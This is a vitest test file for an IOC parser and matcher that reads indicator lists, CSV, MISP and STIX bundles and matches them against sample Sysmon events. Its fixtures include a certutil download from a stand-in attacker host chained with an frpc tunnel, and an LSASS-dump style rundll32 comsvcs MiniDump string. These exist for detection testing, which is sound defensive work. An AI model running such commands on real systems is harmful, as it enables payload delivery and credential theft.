import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { describeShared, shared } from '../../../../test/shared-data.js';
import type { FlatEvent } from '../../sigma/index.js';
import { guessIocType, refang } from './ioc-entry.js';
import { dedupeIocs, parseIocFile } from './ioc-file.js';
import { compileIocMatcher } from './ioc-matcher.js';
import { parseCidr, parseIp } from './ip-address.js';

const brief = (entries: readonly { type: string; value: string }[]) =>
  entries.map((e) => `${e.type}:${e.value}`);

describe('IOC values', () => {
  it('refangs and guesses types', () => {
    expect(refang('hxxps://evil[.]example/a')).toBe('https://evil.example/a');
    expect(
      [
        '10.1.2.3',
        '10.0.0.0/8',
        '2001:db8::1',
        '2001:db8::/32',
        'evil[.]example',
        'hxxp://x.example/p',
        'd41d8cd98f00b204e9800998ecf8427e',
        'a'.repeat(40),
        'b'.repeat(64),
        'payload.dll',
        'rundll32 comsvcs.dll,MiniDump',
      ].map(guessIocType),
    ).toEqual([
      'ip',
      'cidr',
      'ip',
      'cidr',
      'domain',
      'url',
      'md5',
      'sha1',
      'sha256',
      'filename',
      'commandline',
    ]);
  });

  it('parses IPv4/IPv6 addresses and CIDR ranges, IPv4-mapped IPv6 as IPv4', () => {
    expect(parseIp('::ffff:10.0.0.1')).toEqual(parseIp('10.0.0.1'));
    expect(parseIp('2001:0db8:0000:0000:0000:0000:0000:0001')).toEqual(parseIp('2001:db8::1'));
    expect(parseIp('fe80::1%eth0')?.version).toBe(6);
    expect(parseIp('256.1.1.1')).toBeUndefined();
    expect(parseIp('1:2:3:4:5:6:7:8:9')).toBeUndefined();
    expect(parseCidr('10.1.2.3/8')).toEqual({ version: 4, prefix: 8, network: 0x0a000000n });
    expect(parseCidr('10.0.0.0/33')).toBeUndefined();
  });
});

const EVENTS: Record<string, FlatEvent> = {
  net: {
    EventID: 3,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS1',
    DestinationIp: '203.0.113.77',
    SourceIp: '10.0.0.5',
    DestinationHostname: 'c2.bad.example',
  },
  net6: {
    EventID: 3,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS1',
    DestinationIp: '2001:db8:abcd::42',
  },
  dns: {
    EventID: 22,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS1',
    QueryName: 'www.CDN.bad.example',
    QueryResults: '::ffff:198.51.100.9;',
  },
  proc: {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS1',
    Image: 'C:\\Users\\a\\AppData\\Local\\Temp\\Update.EXE',
    CommandLine:
      'certutil -urlcache -f http://dl.bad.example/p.bin C:\\Windows\\Temp\\p.bin & frpc -c frpc.toml',
    Hashes: 'SHA1=AAAA,MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=0123,IMPHASH=FFFF',
  },
  benign: {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS1',
    Image: 'C:\\Windows\\notepad.exe',
    CommandLine: 'notepad bad.example.txt',
    DestinationIp: '203.0.114.1',
  },
};

function sweep(text: string, file: string) {
  const parsed = parseIocFile(text, { file });
  const m = compileIocMatcher(parsed.entries);
  const hits: Record<string, string[]> = {};
  for (const [name, ev] of Object.entries(EVENTS)) {
    const h = m.match(ev);
    if (h.length) hits[name] = h.map((x) => `${x.type}:${x.indicator}@${x.field}`).sort();
  }
  return { parsed, hits };
}

const EXPECTED_HITS = {
  net: ['cidr:203.0.113.0/24@DestinationIp', 'domain:bad.example@DestinationHostname'],
  net6: ['cidr:2001:db8:abcd::/48@DestinationIp'],
  dns: ['domain:bad.example@QueryName', 'ip:198.51.100.9@QueryResults'],
  proc: [
    'commandline:frpc -c@CommandLine',
    'domain:bad.example@CommandLine',
    'filename:update.exe@Image',
    'md5:d41d8cd98f00b204e9800998ecf8427e@Hashes',
    'url:http://dl.bad.example/p.bin@CommandLine',
  ],
};

describe('IOC files and the compiled matcher', () => {
  it('plain list: one value per line, comments, defanged values, types guessed', () => {
    const { parsed, hits } = sweep(
      [
        '# sample list',
        '203.0.113.0/24',
        '2001:db8:abcd::/48',
        'bad[.]example   # the operator domain',
        '198.51.100.9',
        'hxxp://dl.bad.example/p.bin',
        'd41d8cd98f00b204e9800998ecf8427e',
        'update.exe',
        'frpc -c',
        '',
      ].join('\n'),
      'list.txt',
    );
    expect(parsed.format).toBe('list');
    expect(parsed.issues).toEqual([]);
    expect(hits).toEqual({
      ...EXPECTED_HITS,
      proc: EXPECTED_HITS.proc.map((h) => h.replace('filename:update.exe', 'filename:update.exe')),
    });
  });

  it('CSV with a header: value and type columns, extra typed columns, labels, line numbers in issues', () => {
    const csv = [
      'Indicator,Type,Actor,SHA256',
      '203.0.113.0/24,IP,Storm-0001,',
      '2001:db8:abcd::/48,ipv6,Storm-0001,',
      'bad.example,Domain,Storm-0001,',
      '198.51.100.9,IPv4,Storm-0001,',
      '"http://dl.bad.example/p.bin",URL,Storm-0001,',
      'd41d8cd98f00b204e9800998ecf8427e,MD5,Storm-0001,',
      'update.exe,FileName,Storm-0001,',
      'frpc -c,CommandLine,Storm-0001,',
      'not-an-ip,IP,Storm-0001,',
    ].join('\r\n');
    const { parsed, hits } = sweep(csv, 'iocs.csv');
    expect(parsed.format).toBe('csv');
    expect(hits).toEqual(EXPECTED_HITS);
    expect(parsed.entries.every((e) => e.label === 'Storm-0001')).toBe(true);
    expect(parsed.entries[0]!.source).toBe('iocs.csv:2');
    expect(parsed.issues).toEqual([
      expect.objectContaining({ code: 'ioc.invalid-value', location: { file: 'iocs.csv', line: 10 } }),
    ]);
  });

  it('MISP event export: attributes, object attributes and composite types', () => {
    const misp = {
      Event: {
        info: 'Operation Test',
        Attribute: [
          { type: 'ip-dst', value: '203.0.113.0/24', uuid: 'a1' },
          { type: 'ip-dst', value: '2001:db8:abcd::/48', uuid: 'a2' },
          { type: 'domain|ip', value: 'bad.example|198.51.100.9', uuid: 'a3' },
          { type: 'url', value: 'http://dl.bad.example/p.bin', uuid: 'a4' },
          { type: 'filename|md5', value: 'update.exe|d41d8cd98f00b204e9800998ecf8427e', uuid: 'a5' },
          { type: 'email-src', value: 'x@bad.example', uuid: 'a6' },
        ],
        Object: [
          {
            name: 'process',
            Attribute: [
              { type: 'text', value: 'x' },
              { type: 'pattern-in-file', value: 'frpc -c', uuid: 'a7' },
            ],
          },
        ],
      },
    };
    const { parsed, hits } = sweep(JSON.stringify(misp), 'event.json');
    expect(parsed.format).toBe('misp');
    expect(hits).toEqual(EXPECTED_HITS);
    expect(parsed.entries[0]).toMatchObject({ label: 'Operation Test', source: 'event.json a1' });
    expect(parsed.issues.map((i) => i.code).sort()).toEqual([
      'ioc.misp-type-skipped',
      'ioc.misp-type-skipped',
    ]);
  });

  it('STIX 2.1 bundle: indicator patterns, observables and labels from `indicates` relationships', () => {
    const t = '2024-01-01T00:00:00.000Z';
    const ind = (n: number, pattern: string) => ({
      type: 'indicator',
      spec_version: '2.1',
      id: `indicator--0000000${n}-0000-4000-8000-000000000000`,
      created: t,
      modified: t,
      pattern,
      pattern_type: 'stix',
      valid_from: t,
    });
    const bundle = {
      type: 'bundle',
      id: 'bundle--00000000-0000-4000-8000-000000000000',
      objects: [
        ind(1, "[ipv4-addr:value ISSUBSET '203.0.113.0/24']"),
        ind(2, "[ipv6-addr:value ISSUBSET '2001:db8:abcd::/48'] OR [domain-name:value = 'bad.example']"),
        ind(3, "[ipv4-addr:value = '198.51.100.9'] OR [url:value = 'http://dl.bad.example/p.bin']"),
        ind(4, "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e'] OR [file:name = 'update.exe']"),
        ind(5, "[process:command_line = 'frpc -c']"),
        {
          type: 'intrusion-set',
          spec_version: '2.1',
          id: 'intrusion-set--00000000-0000-4000-8000-000000000009',
          created: t,
          modified: t,
          name: 'Volt Typhoon',
        },
        {
          type: 'relationship',
          spec_version: '2.1',
          id: 'relationship--00000000-0000-4000-8000-000000000010',
          created: t,
          modified: t,
          relationship_type: 'indicates',
          source_ref: 'indicator--00000001-0000-4000-8000-000000000000',
          target_ref: 'intrusion-set--00000000-0000-4000-8000-000000000009',
        },
      ],
    };
    const { parsed, hits } = sweep(JSON.stringify(bundle), 'bundle.json');
    expect(parsed.format).toBe('stix');
    expect(hits).toEqual(EXPECTED_HITS);
    expect(parsed.entries.find((e) => e.type === 'cidr' && e.value.startsWith('203'))?.label).toBe(
      'Volt Typhoon',
    );
  });

  it('rejects JSON that is neither STIX nor MISP with a located error, and bad JSON with its offset', () => {
    expect(() => parseIocFile('{"foo": 1}', { file: 'x.json' })).toThrow(
      /neither a STIX 2.1 bundle nor a MISP/,
    );
    try {
      parseIocFile('{"objects": [1,', { file: 'y.json' });
      expect.unreachable();
    } catch (e) {
      expect(e).toMatchObject({ code: 'ioc.json-syntax', kind: 'input', location: { file: 'y.json' } });
    }
  });

  it('de-duplicates indicators by type and value', () => {
    const p = parseIocFile('evil.example\nEVIL.example\n10.0.0.1\n', { file: 'l.txt' });
    expect(brief(dedupeIocs(p.entries))).toEqual(['domain:evil.example', 'ip:10.0.0.1']);
  });
});

describeShared('IOC sweep over the Microsoft threat-intelligence CSVs', () => {
  it('reads both CSVs (header detection, typed extra columns) and matches their hashes and domains', () => {
    const nob = parseIocFile(
      readFileSync(shared('sample-iocs/microsoft-mstic/May21NOBELIUMIoCs.csv'), 'utf8'),
      { file: 'May21NOBELIUMIoCs.csv' },
    );
    const rr = parseIocFile(
      readFileSync(shared('sample-iocs/microsoft-mstic/RapidReleaseTI-Indicators.csv'), 'utf8'),
      { file: 'RapidReleaseTI-Indicators.csv' },
    );
    expect(nob.format).toBe('csv');
    expect(rr.format).toBe('csv');
    const types = (p: typeof nob) => [...new Set(p.entries.map((e) => e.type))].sort();
    expect(types(nob)).toEqual(expect.arrayContaining(['domain', 'md5', 'sha1', 'sha256', 'filename']));
    expect(rr.entries.length).toBeGreaterThan(100);
    expect(rr.entries.some((e) => e.label?.includes('Storm-0139'))).toBe(true);
    const m = compileIocMatcher(dedupeIocs([...nob.entries, ...rr.entries]));
    const hash = nob.entries.find((e) => e.type === 'sha256')!;
    const dom = nob.entries.find((e) => e.type === 'domain')!;
    const hits = m.match({
      EventID: 1,
      Hashes: `MD5=00,SHA256=${hash.value.toUpperCase()}`,
      CommandLine: `curl https://sub.${dom.value}/x`,
    });
    expect(hits.map((h) => h.type).sort()).toEqual(['domain', 'sha256']);
  });
});
